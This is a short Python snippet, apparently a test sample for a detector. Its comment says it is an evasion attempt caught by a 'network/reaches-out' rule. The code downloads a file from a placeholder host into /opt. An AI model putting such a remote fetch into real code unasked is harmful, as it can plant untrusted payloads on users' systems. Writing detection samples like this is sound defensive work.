# evades: caught by network/reaches-out
import urllib.request
urllib.request.urlretrieve("https://host.invalid/a", "/opt/a")
